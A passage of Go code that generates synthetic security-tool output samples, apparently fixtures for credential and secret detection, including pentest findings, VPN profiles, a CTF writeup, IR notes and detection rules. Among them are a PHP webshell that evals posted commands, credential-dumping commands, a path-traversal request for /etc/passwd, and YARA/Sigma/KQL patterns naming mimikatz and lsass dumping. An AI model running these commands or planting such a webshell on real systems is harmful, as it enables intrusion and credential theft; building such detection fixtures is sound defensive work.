0             0x0             uImage header, header size: 64 bytes, header CRC: 0x3C1F2A9B, created: 2023-04-11 09:14:32, image size: 1693184 bytes, Data Address: 0x80000000, Entry Point: 0x80000000, data CRC: 0x8E7D1C22, OS: Linux, CPU: MIPS, image type: OS Kernel Image, compression type: lzma, image name: "Linux-3.10.14"
1693248       0x19D640        Squashfs filesystem, little endian, version 4.0, compression:xz, size: 5124416 bytes, 812 inodes, blocksize: 131072 bytes, created: 2023-04-11 09:15:02

$ cat _CAM-X200_v2.3.1.bin.extracted/squashfs-root/etc/shadow _CAM-X200_v2.3.1.bin.extracted/squashfs-root/etc/passwd
root:«a»:18000:0:99999:7:::
admin:«b»:18000:0:99999:7:::
root:x:0:0:root:/root:/bin/sh
`, V{"a": g.stMD5Crypt(), "b": g.stDESCrypt()}, "Squashfs filesystem, little endian, version 4.0", "image name: \"Linux-3.10.14\"", "root:x:0:0:root:/root:/bin/sh")

	g.add("sec/firmware-strings-hardcoded", `
$ grep -rn -E 'telnetd|cloud_key|p2p_secret' squashfs-root/etc/init.d/ squashfs-root/usr/etc/
squashfs-root/etc/init.d/rcS:31:/usr/sbin/telnetd -l /bin/login.sh &
squashfs-root/etc/init.d/rcS:32:echo "root:«a»" | chpasswd -m
squashfs-root/usr/etc/cloud.ini:4:cloud_key=«b»
squashfs-root/usr/etc/cloud.ini:5:p2p_secret=«c»
`, V{"a": g.s(alAlnum, 10), "b": g.hex(32), "c": g.s(alUpNum, 20)}, "/usr/sbin/telnetd -l /bin/login.sh &", "squashfs-root/usr/etc/cloud.ini:4:cloud_key=")

	ek := g.ecSEC1()
	g.add("sec/firmware-private-key-in-rootfs", `
$ find squashfs-root -name '*.key' -o -name '*.pem' | xargs ls -la
-rw-r--r-- 1 kali kali  227 Apr 11  2023 squashfs-root/etc/ssl/private/device.key
-rw-r--r-- 1 kali kali 1001 Apr 11  2023 squashfs-root/etc/ssl/certs/device.pem
$ cat squashfs-root/etc/ssl/private/device.key
`+ek.begin+`
«a»
`+ek.end+`
# same key in every unit (checked v2.2.9 and v2.3.1) -> finding IOT-03
`, V{"a": ek.body}, "squashfs-root/etc/ssl/certs/device.pem", "finding IOT-03")

	g.add("sec/vpn-cisco-pcf-enc-grouppwd", `
$ cat "\\fs01\IT$\VPN\Old\HQ-RemoteAccess.pcf"
[main]
Description=HQ Remote Access (legacy)
Host=vpn-legacy.northwind.example
AuthType=1
GroupName=NW-RA
GroupPwd=
enc_GroupPwd=«a»
EnableISPConnect=0
Username=
SaveUserPassword=0
$ cisco-decrypt «a»
«b»
`, V{"a": g.s(alHexU, 136), "b": g.pwStrong()}, "Host=vpn-legacy.northwind.example", "GroupName=NW-RA")

	ok := g.pkcs8RSAPEM()
	g.add("sec/vpn-ovpn-profile-on-share", `
$ cat loot/fs01/IT/VPN/contractor-rivera.ovpn | sed -n '1,12p;/<key>/,/<\/key>/p'
client
dev tun
proto udp
remote vpn.contoso.com 1194
resolv-retry infinite
nobind
persist-key
persist-tun
remote-cert-tls server
auth-user-pass creds.txt
cipher AES-256-GCM
verb 3
<key>
`+ok.begin+`
«a»
`+ok.end+`
</key>
$ cat loot/fs01/IT/VPN/creds.txt
j.rivera
«b»
`, V{"a": ok.body, "b": g.stHuman()}, "remote vpn.contoso.com 1194", "auth-user-pass creds.txt")

	g.add("sec/vpn-fortigate-config-backup", `
$ grep -A6 -E 'edit "(ipsec-branch|vpn-admin)"' FGT60F_backup_20240203.conf
    edit "ipsec-branch"
        set interface "wan1"
        set peertype any
        set net-device disable
        set proposal aes256-sha256
        set remote-gw 198.51.100.20
        set psksecret ENC «a»
--
    edit "vpn-admin"
        set type password
        set passwd ENC «b»
        set two-factor disable
`, V{"a": g.b64(90), "b": g.b64(72)}, "set remote-gw 198.51.100.20", "set two-factor disable")

	g.add("sec/pentest-report-finding-evidence", stBT(`
### NW-05 — Domain compromise via Kerberoastable service account (Critical)

**Affected:** ‵svc_sap@northwind.local‵ (member of *SAP Admins*, local admin on SAP-PRD01)

**Evidence**

‵‵‵
$ hashcat -m 13100 roast.txt rockyou.txt -r best64.rule --show | cut -d: -f2
«a»
$ nxc smb sap-prd01.northwind.local -u svc_sap -p '«a»'
SMB   10.20.30.71   445   SAP-PRD01   [+] northwind.local\svc_sap:«a» (Pwn3d!)
‵‵‵

**Recommendation:** rotate to a 25+ character random password or convert to a gMSA; set ‵msDS-SupportedEncryptionTypes‵ to AES only.
`), V{"a": g.stSeason()}, "msDS-SupportedEncryptionTypes", "### NW-05 — Domain compromise via Kerberoastable service account (Critical)")

	g.add("sec/pentest-report-compromised-accounts", stBT(`
## Appendix C — Compromised accounts

| Account | How | Credential | Rotated? |
|---|---|---|---|
| ‵FABRIKAM\svc_deploy‵ | Responder + crack | ‵«a»‵ | pending |
| ‵FABRIKAM\da_backup‵ | DCSync | NT ‵«b»‵ | yes (2025-06-13) |
| ‵FABRIKAM\j.osei‵ | lsass on APP02 | ‵Su••••••25!‵ (masked, user notified) | yes |
| ‵LT-0871\Administrator‵ | LAPS read via helpdesk.t2 | *not recorded* | n/a |
`), V{"a": g.pwStrong(), "b": g.stNT()}, "`Su••••••25!` (masked, user notified)", "LAPS read via helpdesk.t2")

	g.add("sec/ctf-writeup-box-password", stBT(`
# HTB — "Backfire" (Medium) writeup

Foothold: the Havoc teamserver profile in ‵/home/ilya/files/havoc.yaotl‵ had the operator password in clear:

‵‵‵
Operators {
    user "ilya" {
        Password = "«a»"
    }
}
‵‵‵

‵ssh ilya@backfire.htb‵ with that password works → ‵user.txt‵: ‵«_f1»‵

Root via the HardHatC2 JWT forgery, ‵root.txt‵: ‵«_f2»‵
`), V{"a": g.s(alAlnum, 10) + g.pick("!", "#"), "_f1": g.hex(32), "_f2": g.hex(32)}, "HTB — \"Backfire\" (Medium) writeup", "`ssh ilya@backfire.htb`")

	g.add("sec/ir-notes-temp-password-reset", `
IR-2025-029 analyst notes — Wed 11 Jun
- 14:02 disabled MEGACORP\e.lindqvist (token theft suspected, AiTM phish from login-megacorp[.]co)
- 14:05 revoked all refresh tokens: Revoke-MgUserSignInSession -UserId e.lindqvist@megacorp.com
- 14:20 re-enabled with temp password «a» (given to her manager by phone, must change at next logon)
- 14:31 removed malicious inbox rule "..." forwarding to rss-feeds-2025@proton.me
`, V{"a": g.stSeason()}, "Revoke-MgUserSignInSession -UserId e.lindqvist@megacorp.com", "rss-feeds-2025@proton.me")

	g.add("sec/ir-webshell-found-with-password", `
$ sudo find /var/www -name '*.php' -newer /var/www/shop/index.php -mtime -10 -exec grep -l 'eval(' {} \;
/var/www/shop/uploads/img/thumb_cache.php
$ head -c 400 /var/www/shop/uploads/img/thumb_cache.php
<?php @error_reporting(0); session_start(); $key="«a»"; $_SESSION['k']=$key; if(md5($_POST['pass'])=='«b»'){ $p=base64_decode($_POST['cmd']); @eval(openssl_decrypt($p,"AES128",$key)); }
`, V{"a": g.hex(16), "b": g.hex(32)}, "/var/www/shop/uploads/img/thumb_cache.php", "@error_reporting(0); session_start();")
}

func (g *G) stBenign() {
	g.add("sec/benign-filter-empty-hashes-script", `
# parse_ntds.py — drop accounts whose hashes are the well-known empty values
EMPTY_LM = "aad3b435b51404eeaad3b435b51404ee"   # LM of "" (LM storage disabled)
EMPTY_NT = "31d6cfe0d16ae931b73c59d7e0c089c0"   # MD4(UTF-16LE(""))

def interesting(line: str) -> bool:
    user, rid, lm, nt = line.split(":")[:4]
    if nt == EMPTY_NT:
        return False            # blank password or disabled built-in (Guest, DefaultAccount)
    return not user.endswith("$")
`, nil, "EMPTY_LM = \"aad3b435b51404eeaad3b435b51404ee\"", "EMPTY_NT = \"31d6cfe0d16ae931b73c59d7e0c089c0\"", "return not user.endswith(\"$\")")

	g.add("sec/benign-dpat-summary-statistics", `
$ python3 dpat.py -n customer.ntds -c hashcat.potfile -g "Domain Admins.txt" "Enterprise Admins.txt"
The following statistics were generated:

Count	Description
2214	Password Hashes
1986	Unique Password Hashes
1403	Passwords Discovered Through Cracking
63.4%	Percent of Current Passwords Cracked
0	LM Hashes (Non-blank)
3	Accounts with a blank password (NT 31d6cfe0d16ae931b73c59d7e0c089c0)
17	Password Hashes Shared Across Domain Admins
Writing report to DomainPasswordAuditReport.html
`, nil, "Passwords Discovered Through Cracking", "Accounts with a blank password (NT 31d6cfe0d16ae931b73c59d7e0c089c0)", "Writing report to DomainPasswordAuditReport.html")

	g.add("sec/benign-ioc-table", stBT(`
## Indicators of compromise — IR-2025-031

| Type | Value | Context |
|---|---|---|
| SHA256 | ‵«_s1»‵ | invoice_viewer.exe (stealer, .NET) |
| MD5 | ‵«_m1»‵ | invoice_viewer.exe |
| SHA1 | ‵«_h1»‵ | ‵%TEMP%\vcruntime140_1.dll‵ (side-loaded) |
| Domain | ‵login-megacorp[.]co‵ | AiTM phishing page |
| IPv4 | ‵185.220.101.44‵ | Tor exit used for git clones |
| JA3 | ‵«_j»‵ | loader TLS client |
| Mutex | ‵Global\«_mx»‵ | stealer single-instance |
`), V{"_s1": g.hex(64), "_m1": g.hex(32), "_h1": g.hex(40), "_j": g.hex(32), "_mx": g.uuid()}, "login-megacorp[.]co", "185.220.101.44")

	g.add("sec/benign-nuclei-cve-findings", `
$ nuclei -l external.txt -tags cve,kev -severity critical,high -silent
[CVE-2023-4966] [http] [critical] https://gw.target.example/oauth/idp/.well-known/openid-configuration
[CVE-2024-3400] [http] [critical] https://fw.target.example/global-protect/login.esp
[CVE-2023-46805] [http] [high] https://vpn.target.example/api/v1/totp/user-backup-code/../../system/system-information
[CVE-2021-41773] [http] [high] https://legacy.target.example/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd
`, nil, "[CVE-2024-3400] [http] [critical]", "CVE-2023-46805", "https://legacy.target.example/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd")

	g.add("sec/benign-yara-mimikatz", `
rule HKTL_Mimikatz_Strings_2025
{
    meta:
        description = "mimikatz and forks by module strings"
        author = "SOC detection engineering"
        date = "2025-06-12"
        hash1 = "«_h»"
    strings:
        $s1 = "sekurlsa::logonpasswords" ascii wide nocase
        $s2 = "lsadump::dcsync" ascii wide nocase
        $s3 = "gentilkiwi" ascii wide
        $s4 = "* NTLM     :" ascii wide
        $x1 = { 33 FF 41 89 37 4C 8B F3 45 85 C0 74 }
    condition:
        uint16(0) == 0x5A4D and (2 of ($s*) or $x1)
}
`, V{"_h": g.hex(64)}, "$s1 = \"sekurlsa::logonpasswords\" ascii wide nocase", "{ 33 FF 41 89 37 4C 8B F3 45 85 C0 74 }")

	g.add("sec/benign-sigma-net-user-add", `
title: Local Account Created With Password On Command Line
id: «_id»
status: experimental
description: net.exe / net1.exe "user ... /add" — the password is in the command line and thus in 4688 and Sysmon 1 logs
references:
    - https://attack.mitre.org/techniques/T1136/001/
author: SOC
date: 2025-06-12
tags:
    - attack.persistence
    - attack.t1136.001
logsource:
    category: process_creation
    product: windows
detection:
    selection_img:
        Image|endswith:
            - '\net.exe'
            - '\net1.exe'
    selection_cli:
        CommandLine|contains|all:
            - ' user '
            - ' /add'
    condition: all of selection_*
falsepositives:
    - Provisioning scripts
level: medium
`, V{"_id": g.uuid()}, "CommandLine|contains|all:", "attack.t1136.001", "category: process_creation")

	g.add("sec/benign-nmap-dc-scan", `
$ nmap -sC -sV -p 22,88,389,445,3389 10.20.30.5,9
Nmap scan report for dc01.northwind.local (10.20.30.5)
Host is up (0.00091s latency).

PORT     STATE SERVICE       VERSION
88/tcp   open  kerberos-sec  Microsoft Windows Kerberos (server time: 2025-06-12 10:02:11Z)
389/tcp  open  ldap          Microsoft Windows Active Directory LDAP (Domain: northwind.local0., Site: Default-First-Site-Name)
| ssl-cert: Subject: commonName=dc01.northwind.local
| Subject Alternative Name: othername: 1.3.6.1.4.1.311.25.1::<unsupported>, DNS:dc01.northwind.local
| Not valid before: 2025-01-14T09:12:03
|_Not valid after:  2026-01-14T09:12:03
445/tcp  open  microsoft-ds?
3389/tcp open  ms-wbt-server Microsoft Terminal Services
| rdp-ntlm-info: 
|   Target_Name: NORTHWIND
|   NetBIOS_Domain_Name: NORTHWIND
|   DNS_Computer_Name: dc01.northwind.local
|_  Product_Version: 10.0.20348

Nmap scan report for 10.20.30.9
PORT   STATE SERVICE VERSION
22/tcp open  ssh     OpenSSH 8.9p1 Ubuntu 3ubuntu0.10 (Ubuntu Linux; protocol 2.0)
| ssh-hostkey: 
|   256 «_k1» (ECDSA)
|_  256 «_k2» (ED25519)

Host script results:
| smb2-security-mode: 
|   3:1:1: 
|_    Message signing enabled and required
`, V{"_k1": g.hex(32), "_k2": g.hex(32)}, "Message signing enabled and required", "Product_Version: 10.0.20348", "Site: Default-First-Site-Name")

	g.add("sec/benign-certificate-fingerprints", `
$ openssl s_client -connect vpn.contoso.com:443 -servername vpn.contoso.com </dev/null 2>/dev/null | openssl x509 -noout -subject -issuer -serial -fingerprint -sha256
subject=CN=vpn.contoso.com
issuer=C=US, O=Let's Encrypt, CN=R11
serial=«_sn»
sha256 Fingerprint=«_fp»
$ certipy find -u j.rivera@contoso.local -p "$PW" -stdout -vulnerable | sed -n '1,12p'
Certificate Authorities
  0
    CA Name                             : CONTOSO-CA01-CA
    DNS Name                            : ca01.contoso.local
    Certificate Subject                 : CN=CONTOSO-CA01-CA, DC=contoso, DC=local
    Certificate Serial Number           : «_cs»
    Certificate Validity Start          : 2021-02-03 10:14:22+00:00
    Certificate Validity End            : 2031-02-03 10:24:22+00:00
`, func() V {
		fp := make([]string, 32)
		for i := range fp {
			fp[i] = g.s(alHexU, 2)
		}
		return V{"_sn": g.s(alHexU, 36), "_fp": strings.Join(fp, ":"), "_cs": g.s(alHexU, 32)}
	}(), "issuer=C=US, O=Let's Encrypt, CN=R11", "-p \"$PW\"", "CA Name                             : CONTOSO-CA01-CA")

	g.add("sec/benign-ctf-flags-writeup", stBT(`
## picoCTF 2025 — "Forensics: Ph4nt0m 1ntrud3r" and friends

1. ‵tshark -r myNetworkTraffic.pcap -Y tcp -T fields -e tcp.payload | xxd -r -p | base64 -d‵ → ‵«_f1»‵
2. The second flag was in the EXIF comment: ‵exiftool cat.jpg | grep -i comment‵ → ‵«_f2»‵
3. HTB Sherlock "Brutus": the attacker's session, ‵user.txt‵ style answer: ‵«_f3»‵

Flags are per-event and worthless outside the scoreboard.
`), V{"_f1": "picoCTF{" + g.s(alLowNum+"_", 18) + "}", "_f2": "picoCTF{" + g.s(alLowNum+"_", 22) + "}", "_f3": "HTB{" + g.s(alLowNum+"_", 24) + "}"}, "Flags are per-event and worthless outside the scoreboard.", "exiftool cat.jpg | grep -i comment")

	g.add("sec/benign-redacted-evidence", `
Evidence (sanitised for the customer report):

$ nxc smb 10.20.30.71 -u svc_sap -p '[REDACTED]'
SMB   10.20.30.71   445   SAP-PRD01   [+] northwind.local\svc_sap:[REDACTED] (Pwn3d!)

$ secretsdump.py ... -just-dc-user krbtgt
krbtgt:502:aad3b435b51404eeaad3b435b51404ee:«_p»…[truncated]…:::

Password: ************
Cracked in 41 s with rockyou + best64 (length 11, seasonal pattern).
`, V{"_p": g.hex(4)}, "[+] northwind.local\\svc_sap:[REDACTED] (Pwn3d!)", "Password: ************", "…[truncated]…")

	g.add("sec/benign-script-creds-from-env", `
#!/usr/bin/env bash
# post-ex helper: nothing secret in here, everything comes from the engagement vault
set -euo pipefail
: "${DOMAIN:?}" "${USER_NAME:?}" "${NTHASH:?}" "${DC_IP:?}"

nxc smb targets.txt -u "$USER_NAME" -H "$NTHASH" -d "$DOMAIN" --shares
secretsdump.py -hashes ":${NTHASH}" "${DOMAIN}/${USER_NAME}@${DC_IP}" -just-dc-user krbtgt
hydra -L users.txt -P /usr/share/wordlists/rockyou.txt "ssh://${TARGET:-10.9.0.33}"
read -rsp 'Password: ' PASS; echo
GetUserSPNs.py "${DOMAIN}/${USER_NAME}:${PASS}" -request -outputfile roast.txt
`, nil, "-H \"$NTHASH\"", "-hashes \":${NTHASH}\"", "\"${DOMAIN}/${USER_NAME}:${PASS}\"", "read -rsp 'Password: ' PASS; echo")

	g.add("sec/benign-hashcat-benchmark", `
$ hashcat -b -m 1000,5600,13100,22000 --quiet
* Device #1: NVIDIA GeForce RTX 4090, 23008/24563 MB, 128MCU

-------------------
* Hash-Mode 1000 (NTLM)
-------------------

Speed.#1.........:   288.5 GH/s (56.82ms) @ Accel:512 Loops:1024 Thr:64 Vec:1

-------------------------------
* Hash-Mode 5600 (NetNTLMv2)
-------------------------------

Speed.#1.........: 13291.4 MH/s (77.31ms) @ Accel:512 Loops:256 Thr:64 Vec:1

-----------------------------------------------
* Hash-Mode 13100 (Kerberos 5, etype 23, TGS-REP)
-----------------------------------------------

Speed.#1.........:  5480.2 MH/s (47.02ms) @ Accel:256 Loops:128 Thr:64 Vec:1

-------------------------------
* Hash-Mode 22000 (WPA-PBKDF2-PMKID+EAPOL)
-------------------------------

Speed.#1.........:  2543.1 kH/s (52.10ms) @ Accel:32 Loops:256 Thr:512 Vec:1
`, nil, "* Hash-Mode 13100 (Kerberos 5, etype 23, TGS-REP)", "Speed.#1.........:   288.5 GH/s")

	g.add("sec/benign-hashcat-example-hashes", `
$ hashcat --example-hashes -m 1000,0 | grep -E 'Hash.Mode|Example.Hash|Example.Pass'
  Hash.Mode........: 1000
  Example.Hash.....: b4b9b02e6f09a9bd760f388b67351e2b
  Example.Pass.....: hashcat
  Hash.Mode........: 0
  Example.Hash.....: 8743b52063cd84097a65d1633f5c74f5
  Example.Pass.....: hashcat
# sanity check of the rig before the real job
`, nil, "b4b9b02e6f09a9bd760f388b67351e2b", "8743b52063cd84097a65d1633f5c74f5", "Example.Pass.....: hashcat")

	g.add("sec/benign-responder-conf", `
$ sed -n '1,30p' /etc/responder/Responder.conf
[Responder Core]

; Servers to start
SQL = On
SMB = Off
RDP = On
Kerberos = On
FTP = On
POP = On
SMTP = On
IMAP = On
HTTP = Off
HTTPS = On
DNS = On
LDAP = On

; Custom challenge.
; Use "Random" for generating a random challenge for each requests (Default)
Challenge = Random

; SQLite Database file
; Delete this file to re-capture previously captured hashes
Database = Responder.db

; Default log file
SessionLog = Responder-Session.log
`, nil, "Challenge = Random", "Database = Responder.db", "SMB = Off")

	g.add("sec/benign-john-nothing-cracked", `
$ john --format=krb5tgs --wordlist=/usr/share/wordlists/rockyou.txt roast.txt
Using default input encoding: UTF-8
Loaded 2 password hashes with 2 different salts (krb5tgs, Kerberos 5 TGS etype 23 [MD4 HMAC-MD5 RC4])
Will run 4 OpenMP threads
Press 'q' or Ctrl-C to abort, almost any other key for status
0g 0:00:00:14 DONE (2025-06-12 10:40) 0g/s 1009Kp/s 2018Kc/s 2018KC/s !!12Honey..*7¡Vamos!
Session completed. 
$ john --show --format=krb5tgs roast.txt
0 password hashes cracked, 2 left
`, nil, "0 password hashes cracked, 2 left", "Kerberos 5 TGS etype 23 [MD4 HMAC-MD5 RC4]")

	g.add("sec/benign-gitleaks-redacted", `
$ gitleaks git --redact -v .
Finding:     aws_secret_access_key = REDACTED
Secret:      REDACTED
RuleID:      aws-access-token
Entropy:     4.712
File:        deploy/terraform.tfvars
Line:        12
Commit:      «_c»
Author:      Rui Costa
Email:       rui.costa@acme-corp.example
Date:        2024-11-02T10:14:09Z
Fingerprint: «_c»:deploy/terraform.tfvars:aws-access-token:12

10:22AM INF 212 commits scanned.
10:22AM WRN leaks found: 1
`, V{"_c": g.gitSHA()}, "Secret:      REDACTED", "gitleaks git --redact -v .", "10:22AM WRN leaks found: 1")

	g.add("sec/benign-trivy-secret-masked", `
$ trivy fs --scanners secret .

config/settings.py (secrets)
============================
Total: 1 (UNKNOWN: 0, LOW: 0, MEDIUM: 0, HIGH: 0, CRITICAL: 1)

CRITICAL: AWS (aws-secret-access-key)
════════════════════════════════════════
AWS Secret Access Key
────────────────────────────────────────
 config/settings.py:14 (offset: 412 bytes)
────────────────────────────────────────
  12   AWS_REGION = "eu-west-1"
  13   AWS_ACCESS_KEY_ID = os.environ["AWS_ACCESS_KEY_ID"]
  14 [ AWS_SECRET_ACCESS_KEY = "****************************************"
  15
────────────────────────────────────────
`, nil, "AWS_SECRET_ACCESS_KEY = \"****************************************\"", "CRITICAL: AWS (aws-secret-access-key)", "AWS_ACCESS_KEY_ID = os.environ[\"AWS_ACCESS_KEY_ID\"]")

	g.add("sec/benign-detect-secrets-baseline", `
{
  "version": "1.5.0",
  "plugins_used": [
    { "name": "AWSKeyDetector" },
    { "name": "Base64HighEntropyString", "limit": 4.5 },
    { "name": "KeywordDetector", "keyword_exclude": "" }
  ],
  "results": {
    "config/settings.py": [
      {
        "type": "Secret Keyword",
        "filename": "config/settings.py",
        "hashed_secret": "«_h1»",
        "is_verified": false,
        "line_number": 14
      }
    ],
    "tests/fixtures/ldap.py": [
      {
        "type": "Secret Keyword",
        "filename": "tests/fixtures/ldap.py",
        "hashed_secret": "«_h2»",
        "is_verified": false,
        "line_number": 3
      }
    ]
  },
  "generated_at": "2025-06-12T10:11:12Z"
}
`, V{"_h1": g.hex(40), "_h2": g.hex(40)}, "\"name\": \"AWSKeyDetector\"", "\"generated_at\": \"2025-06-12T10:11:12Z\"")

	g.add("sec/benign-nuclei-template", `
id: exposed-laravel-env-internal

info:
  name: Laravel .env exposure (internal variant)
  author: redteam
  severity: high
  tags: exposure,config,laravel

http:
  - method: GET
    path:
      - "{{BaseURL}}/.env"
      - "{{BaseURL}}/.env.backup"
    matchers-condition: and
    matchers:
      - type: word
        part: body
        words:
          - "APP_KEY="
          - "DB_PASSWORD="
        condition: and
      - type: status
        status:
          - 200
    extractors:
      - type: regex
        part: body
        regex:
          - "DB_PASSWORD=[^\\n]+"
`, nil, "\"{{BaseURL}}/.env.backup\"", "- \"DB_PASSWORD=[^\\\\n]+\"", "id: exposed-laravel-env-internal")

	g.add("sec/benign-bloodhound-kerberoastable-list", `
MATCH (u:User {hasspn:true, enabled:true}) RETURN u.name AS user, u.serviceprincipalnames AS spns, u.pwdlastset AS pwdlastset ORDER BY pwdlastset

╒════════════════════════════╤══════════════════════════════════════════════════╤════════════╕
│user                        │spns                                              │pwdlastset  │
╞════════════════════════════╪══════════════════════════════════════════════════╪════════════╡
│"SVC_SAP@NORTHWIND.LOCAL"   │["SAPService/sap-prd01.northwind.local"]          │1529572442  │
├────────────────────────────┼──────────────────────────────────────────────────┼────────────┤
│"SVC_SQL2@NORTHWIND.LOCAL"  │["MSSQLSvc/sql02.northwind.local:1433"]           │1733047244  │
└────────────────────────────┴──────────────────────────────────────────────────┴────────────┘
`, nil, "\"SVC_SAP@NORTHWIND.LOCAL\"", "[\"MSSQLSvc/sql02.northwind.local:1433\"]", "MATCH (u:User {hasspn:true, enabled:true})")

	g.add("sec/benign-volatility-pslist", `
$ vol -f FIN-WS07.mem windows.pslist | grep -iE 'lsass|rundll32|procdump|PID'
PID	PPID	ImageFileName	Offset(V)	Threads	Handles	SessionId	Wow64	CreateTime	ExitTime	File output
708	572	lsass.exe	0xc3082f5ab080	9	-	0	False	2025-06-09 06:58:12.000000 UTC	N/A	Disabled
7712	9012	rundll32.exe	0xc30831a2f300	3	-	0	False	2025-06-09 02:15:40.000000 UTC	2025-06-09 02:15:44.000000 UTC	Disabled
`, nil, "708	572	lsass.exe	0xc3082f5ab080", "ImageFileName	Offset(V)	Threads")

	g.add("sec/benign-msf-show-options-blank", `
msf6 exploit(windows/smb/psexec) > show options

Module options (exploit/windows/smb/psexec):

   Name                  Current Setting  Required  Description
   ----                  ---------------  --------  -----------
   RHOSTS                                 yes       The target host(s), see https://docs.metasploit.com/docs/using-metasploit/basics/using-metasploit.html
   RPORT                 445              yes       The SMB service port (TCP)
   SERVICE_DESCRIPTION                    no        Service description to be used on target for pretty listing
   SMBDomain             .                no        The Windows domain to use for authentication
   SMBPass                                no        The password for the specified username
   SMBSHARE                               no        The share to connect to, can be an admin share (ADMIN$,C$,...) or a normal read/write folder share
   SMBUser                                no        The username to authenticate as
`, nil, "SMBPass                                no        The password for the specified username", "Module options (exploit/windows/smb/psexec):")

	g.add("sec/benign-kql-credential-dumping-hunt", `
DeviceProcessEvents
| where Timestamp > ago(7d)
| where ProcessCommandLine has_any ("sekurlsa::logonpasswords", "lsadump::dcsync", "privilege::debug")
    or (FileName =~ "rundll32.exe" and ProcessCommandLine has "comsvcs.dll" and ProcessCommandLine has "MiniDump")
    or (FileName =~ "reg.exe" and ProcessCommandLine has_any ("save hklm\\sam", "save hklm\\security"))
| project Timestamp, DeviceName, AccountName, ProcessCommandLine, InitiatingProcessFileName

No results found from the specified time range.
`, nil, "ProcessCommandLine has \"comsvcs.dll\"", "No results found from the specified time range.")

	g.add("sec/benign-laps-unauthorized", `
PS C:\> Get-LapsADPassword -Identity SRV-FS02 -AsPlainText

ComputerName        : SRV-FS02
DistinguishedName   : CN=SRV-FS02,OU=Servers,DC=megacorp,DC=local
Account             :
Password            :
PasswordUpdateTime  :
ExpirationTimestamp : 7/10/2025 8:12:40 AM
Source              : EncryptedPassword
DecryptionStatus    : Unauthorized
AuthorizedDecryptor : MEGACORP\LAPS Admins
`, nil, "DecryptionStatus    : Unauthorized", "AuthorizedDecryptor : MEGACORP\\LAPS Admins")

	g.add("sec/benign-airodump-handshake-banner", `
 CH  6 ][ Elapsed: 4 mins ][ 2025-06-12 14:02 ][ WPA handshake: 3C:37:86:A1:0F:22 

 BSSID              PWR  Beacons    #Data, #/s  CH   MB   ENC CIPHER  AUTH ESSID

 3C:37:86:A1:0F:22  -41      812      122    0   6  130   WPA2 CCMP   PSK  Warehouse-IoT
 C8:3A:35:11:4E:90  -63      401        9    0   6  270   WPA2 CCMP   PSK  Tenda_114E90
 B4:FB:E4:20:71:0C  -70      388        0    0  11  360   WPA2 CCMP   MGT  NW-Corp

 BSSID              STATION            PWR   Rate    Lost    Frames  Notes  Probes

 3C:37:86:A1:0F:22  «_sta»  -52    1e- 1e     0      211  EAPOL
`, V{"_sta": g.stMAC()}, "[ WPA handshake: 3C:37:86:A1:0F:22", "WPA2 CCMP   MGT  NW-Corp")

	g.add("sec/benign-klist-cached-tickets", `
C:\> klist

Current LogonId is 0:0x4b1e2

Cached Tickets: (1)

#0>	Client: da.c.okafor @ MEGACORP.LOCAL
	Server: krbtgt/MEGACORP.LOCAL @ MEGACORP.LOCAL
	KerbTicket Encryption Type: AES-256-CTS-HMAC-SHA1-96
	Ticket Flags 0x40e10000 -> forwardable renewable initial pre_authent name_canonicalize 
	Start Time: 6/12/2025 8:02:55 (local)
	End Time:   6/12/2025 18:02:55 (local)
	Renew Time: 6/19/2025 8:02:55 (local)
	Session Key Type: AES-256-CTS-HMAC-SHA1-96
	Cache Flags: 0x1 -> PRIMARY 
	Kdc Called: DC01.megacorp.local
`, nil, "Server: krbtgt/MEGACORP.LOCAL @ MEGACORP.LOCAL", "Ticket Flags 0x40e10000", "Kdc Called: DC01.megacorp.local")

	g.add("sec/benign-4769-rc4-tickets-splunk", `
index=wineventlog EventCode=4769 Ticket_Encryption_Type=0x17 Service_Name!="*$" | stats count by Account_Name, Service_Name, Client_Address

Account_Name               Service_Name   Client_Address       count
l.fischer@CONTOSO.LOCAL    svc_mssql      ::ffff:10.0.8.66     1
l.fischer@CONTOSO.LOCAL    svc_iis        ::ffff:10.0.8.66     1
`, nil, "Ticket_Encryption_Type=0x17", "l.fischer@CONTOSO.LOCAL    svc_mssql")

	g.add("sec/benign-gpp-decrypt-public-key", `
# gpp_decrypt.py — the AES key below is public: Microsoft published it in
# [MS-GPPREF] 2.2.1.1.4, which is why cpassword values are not protected.
from base64 import b64decode
from Crypto.Cipher import AES

KEY = bytes.fromhex("4e9906e8fcb66cc9faf49310620ffee8f496e806cc057990209b09a433b66c1b")

def decrypt(cpassword: str) -> str:
    cpassword += "=" * (-len(cpassword) % 4)
    raw = AES.new(KEY, AES.MODE_CBC, iv=b"\x00" * 16).decrypt(b64decode(cpassword))
    return raw[: -raw[-1]].decode("utf-16-le")
`, nil, "4e9906e8fcb66cc9faf49310620ffee8f496e806cc057990209b09a433b66c1b", "[MS-GPPREF] 2.2.1.1.4")

	g.add("sec/benign-cloudtrail-attacker-listbuckets", `
{
  "eventVersion": "1.09",
  "userIdentity": {
    "type": "IAMUser",
    "principalId": "«=pid»",
    "arn": "arn:aws:iam::731204418822:user/svc-artifact-sync",
    "accountId": "731204418822",
    "accessKeyId": "«=kid»",
    "userName": "svc-artifact-sync"
  },
  "eventTime": "2025-06-12T12:10:44Z",
  "eventSource": "s3.amazonaws.com",
  "eventName": "ListBuckets",
  "awsRegion": "us-east-1",
  "sourceIPAddress": "198.51.100.77",
  "userAgent": "[Boto3/1.34.0 md/Botocore#1.34.0 ua/2.0 os/linux#6.6.15-amd64 lang/python#3.11.9]",
  "requestID": "«_r»",
  "eventID": "«_e»",
  "readOnly": true,
  "eventType": "AwsApiCall",
  "recipientAccountId": "731204418822"
}
`, V{"=pid": "AIDA" + g.s(alUpNum, 17), "=kid": g.awsID(), "_r": g.s(alUpNum, 16), "_e": g.uuid()}, "\"sourceIPAddress\": \"198.51.100.77\"", "arn:aws:iam::731204418822:user/svc-artifact-sync")

	g.add("sec/benign-report-template-placeholders", stBT(`
### Reproduction steps (template — fill from the evidence share, never paste credentials here)

1. Request service tickets: ‵GetUserSPNs.py <DOMAIN>/<USER>:<PASSWORD> -dc-ip <DC_IP> -request‵
2. Crack offline: ‵hashcat -m 13100 <hash_file> <wordlist> -r <rules>‵
3. Validate: ‵nxc smb <DC_IP> -u <SPN_ACCOUNT> -p '<cracked password>'‵

> Screenshots must show passwords masked (‵P@ss****‵) and hashes truncated to 8 characters.
`), nil, "<DOMAIN>/<USER>:<PASSWORD>", "-p '<cracked password>'", "P@ss****")

	g.add("sec/benign-evidence-manifest", `
